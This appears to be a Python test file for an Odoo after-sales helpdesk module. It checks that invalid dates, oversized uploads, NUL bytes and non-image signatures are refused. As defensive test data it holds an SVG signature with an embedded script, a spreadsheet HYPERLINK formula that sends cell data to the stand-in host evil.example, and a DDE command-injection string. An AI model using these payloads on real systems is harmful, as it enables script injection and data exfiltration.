import base64
import io
from contextlib import contextmanager
from datetime import datetime, timedelta

from openpyxl import load_workbook

from odoo import fields
from odoo.exceptions import ValidationError
from odoo.tests import tagged
from odoo.tools import mute_logger

from .dispatch_common import DispatchCase
from .portal_common import PNG_B64, AftersalesPortalCase
from .test_portal_isolation import PortalCallsMixin

# A 1x1 JPEG and an SVG "signature" that carries a script.
JPEG_B64 = (
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcpLDAxNDQ0Hyc5PT"
    "gyPC4zNDL/2wBDAQkJCQwLDBgNDRgyIRwhMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjL/wAARCAAB"
    "AAEDASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhBy"
    "JxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKT"
    "lJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAA"
    "AAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRom"
    "JygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExc"
    "bHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwD3+iiigD//2Q=="
)
SVG_B64 = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><path d="M0 0L9 9"/></svg>'
).decode()


class RefusalMixin:
    @contextmanager
    def assertRefusal(self, text):
        """A ValidationError naming `text`, and nothing written (the savepoint of assertRaises
        rolls the refused write back, as the request's transaction would)."""
        with self.assertRaises(ValidationError) as caught:
            yield
        self.assertIn(text, str(caught.exception))


@tagged("post_install", "-at_install")
class TestBadInputRecords(RefusalMixin, DispatchCase):
    """Issue 12: bad input gets a clear, translated error and writes nothing."""

    def test_facts_cannot_precede_receipt(self):
        ticket = self.env["helpdesk.ticket"].create(
            {"name": "Phone call", "description": "x", "received_at": datetime(2026, 3, 2, 2, 0)}
        )
        for name in ("answered_at", "onsite_at", "quoted_at"):
            with self.subTest(fact=name):
                with self.assertRefusal("before it was received"):
                    ticket.write({name: datetime(2026, 3, 2, 1, 0)})
                self.assertFalse(ticket[name])
                ticket.write(
                    {name: datetime(2026, 3, 2, 1, 56)}
                )  # within the 5 minutes of clock skew
                self.assertEqual(ticket[name], datetime(2026, 3, 2, 1, 56))
        with self.assertRefusal("before it was received"):
            ticket.received_at = datetime(2026, 3, 2, 3, 0)  # receipt moved after its facts
        self.assertEqual(ticket.received_at, datetime(2026, 3, 2, 2, 0))

    def test_received_in_the_future(self):
        Ticket = self.env["helpdesk.ticket"]
        now = fields.Datetime.now()
        count = Ticket.search_count([])
        with self.assertRefusal("cannot be received in the future"):
            Ticket.create(
                {
                    "name": "Typed ahead",
                    "description": "x",
                    "received_at": now + timedelta(minutes=30),
                }
            )
        self.assertEqual(Ticket.search_count([]), count)
        ticket = Ticket.create(
            {"name": "Skewed clock", "description": "x", "received_at": now + timedelta(minutes=4)}
        )
        self.assertEqual(self.company.aftersales_clock_skew_minutes, 5)
        self.company.aftersales_clock_skew_minutes = 0
        with self.assertRefusal("cannot be received in the future"):
            ticket.received_at = now + timedelta(minutes=2)
        with self.assertRaises(ValidationError):
            self.company.aftersales_clock_skew_minutes = -1

    def test_negative_work_hours(self):
        dispatch = self._dispatch()
        with self.assertRefusal("person-hours cannot be negative"):
            dispatch.work_hours = -2
        self.assertEqual(dispatch.work_hours, 0)
        dispatch.work_hours = 6.5
        self.assertEqual(dispatch.work_hours, 6.5)

    def test_company_warranty_default_in_range(self):
        for months in (0, 121):
            with self.subTest(months=months), self.assertRefusal("from 1 to 120 months"):
                self.company.aftersales_warranty_months = months

    def test_signature_must_be_png_or_jpeg(self):
        report = self.env["aftersales.service.report"].create(
            {"ticket_id": self.ticket.id, "work_done": "Replaced the seal.", "test_result": "pass"}
        )
        with self.assertRefusal("PNG or JPEG"):
            report._action_sign("Contact A", SVG_B64)
        self.assertEqual(
            (report.state, report.signed_by, report.signature), ("draft", False, False)
        )
        report._action_sign("Contact A", JPEG_B64)
        self.assertEqual(report.state, "signed")

    def test_xlsx_cells_are_text(self):
        """Text that looks like a formula is written as text (formula injection)."""
        project = self._project("XM-XLSX-1")
        name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
        entry = self.env["aftersales.archive.entry"].create(
            {
                "project_id": project.id,
                "category_id": self.env.ref("aftersales_service.archive_category_a2").id,
                "name": name,
            }
        )
        content = project._archive_index_xlsx(entry, {entry: ["+cmd|' /C calc'!A0", "@SUM(1+1)"]})
        sheet = load_workbook(io.BytesIO(content)).active
        title, files = sheet.cell(row=2, column=3), sheet.cell(row=2, column=7)
        self.assertEqual((title.data_type, title.value), ("s", name))
        self.assertEqual((files.data_type, files.value), ("s", "+cmd|' /C calc'!A0\n@SUM(1+1)"))


@tagged("post_install", "-at_install")
class TestBadInputPortal(PortalCallsMixin, AftersalesPortalCase):
    def setUp(self):
        super().setUp()
        self.authenticate("t_portal_a", "t_portal_a")
        self.Ticket = self.env["helpdesk.ticket"]
        self.count = self.Ticket.search_count([])

    def _submit(self, files=None, **values):
        data = {
            "project_id": self.project_a.id,
            "name": "Pump leaking",
            "description": "Leaks",
            **values,
        }
        return self._post("/my/aftersales/requests/submit", data, files=files)

    def assertRefused(self, response, message):
        self.assertEqual(response.status_code, 200)
        self.assertIn("o_aftersales_form_error", response.text)
        self.assertIn(message, response.text)
        self.assertEqual(self.Ticket.search_count([]), self.count)

    def test_limits_are_company_settings(self):
        company = self.company
        self.assertEqual(
            (
                company.aftersales_portal_title_max,
                company.aftersales_portal_description_max,
                company.aftersales_portal_photo_max_mb,
                company.aftersales_portal_submission_max_mb,
            ),
            (200, 10000, 5.0, 15.0),
        )
        self.assertRefused(self._submit(name="x" * 201), "longer than 200 characters")
        self.assertRefused(self._submit(description="y" * 10001), "longer than 10000 characters")
        form = self.url_open("/my/aftersales/requests/new").text
        self.assertIn('maxlength="200"', form)

    def test_nul_byte(self):
        self.assertRefused(self._submit(name="Pump\x00leaking"), "cannot be stored")
        self.assertRefused(self._submit(description="Leaks\x00"), "cannot be stored")

    @mute_logger("odoo.http")
    def test_photo_sizes(self):
        # Lower limits, same rules: 10 KB a photo, 25 KB a submission.
        self.company.write(
            {
                "aftersales_portal_photo_max_mb": 10 / 1024,
                "aftersales_portal_submission_max_mb": 25 / 1024,
            }
        )
        png = base64.b64decode(PNG_B64)
        big = png + b"0" * (10 * 1024)
        self.assertRefused(
            self._submit(files={"photos": ("big.png", big, "image/png")}), "big.png is larger than"
        )
        nine = png + b"0" * (9 * 1024)
        files = [("photos", (f"p{i}.png", nine, "image/png")) for i in range(3)]
        self.assertRefused(self._submit(files=files), "together are larger than")
        response = self._submit(files=files[:2])
        self.assertNotIn("o_aftersales_form_error", response.text)
        self.assertEqual(self.Ticket.search_count([]), self.count + 1)

    def test_svg_signature_refused_on_portal(self):
        result = self.make_jsonrpc_request(
            f"/my/aftersales/reports/{self.report_a.id}/sign",
            {"name": "Contact A", "signature": SVG_B64},
        )
        self.assertIn("PNG or JPEG", result.get("error", ""))
        self.assertEqual((self.report_a.state, self.report_a.signed_by), ("draft", False))

    @mute_logger("odoo.addons.base.models.ir_actions_report")
    def test_portal_views_and_drafts_file_nothing(self):
        """What a customer looks at, and draft service reports, are not archive events."""
        product = self.env["product.product"].create({"name": "Filter press"})
        repair = self.env["repair.order"].create(
            {
                "product_id": product.id,
                "partner_id": self.customer.id,
                "aftersales_project_id": self.project_a.id,
            }
        )
        filed = self.project_a.archive_entry_ids  # the photo of the fixtures' request
        Report = self.env["ir.actions.report"].with_context(force_report_rendering=True)
        # As the portal renders documents: sudo, on behalf of the portal user.
        Report.with_user(self.portal_a).sudo()._render_qweb_pdf(
            "repair.action_report_repair_order", repair.ids
        )
        Report.with_user(self.portal_a).sudo()._render_qweb_pdf(
            "aftersales_service.aftersales_service_report_action_report", self.report_a.ids
        )
        Report._render_qweb_pdf(
            "aftersales_service.aftersales_service_report_action_report", self.report_a.ids
        )
        self.assertEqual(self.project_a.archive_entry_ids, filed)
        # The same repair order printed in the back office is filed.
        Report.with_user(self.as_user)._render_qweb_pdf(
            "repair.action_report_repair_order", repair.ids
        )
        new = self.project_a.archive_entry_ids - filed
        self.assertEqual((len(new), new.res_model, new.res_id), (1, "repair.order", repair.id))

    @mute_logger("odoo.http")
    def test_helpdesk_portal_form_obeys_the_limits(self):
        """helpdesk_mgmt's own portal form (/submitted/ticket) gets the same limits."""
        self.company.aftersales_portal_photo_max_mb = 10 / 1024
        for data, files in (
            ({"subject": "Pump\x00leaking", "description": "x"}, None),
            ({"subject": "x" * 201, "description": "x"}, None),
            ({"subject": "Pump", "description": "y" * 10001}, None),
            (
                {"subject": "Pump", "description": "x", "attachment": "1"},
                {"attachment": ("big.pdf", b"0" * (11 * 1024), "application/pdf")},
            ),
        ):
            with self.subTest(subject=data["subject"][:10], files=bool(files)):
                response = self._post("/submitted/ticket", data, files=files, allow_redirects=False)
                self.assertEqual(response.status_code, 400)
                self.assertEqual(self.Ticket.search_count([]), self.count)
        response = self._post(
            "/submitted/ticket",
            {"subject": "Pump question", "description": "How often to clean?"},
            allow_redirects=False,
        )
        self.assertIn(response.status_code, (302, 303))
        self.assertEqual(
            self.Ticket.search([("name", "=", "Pump question")]).partner_id,
            self.portal_a.partner_id,
        )
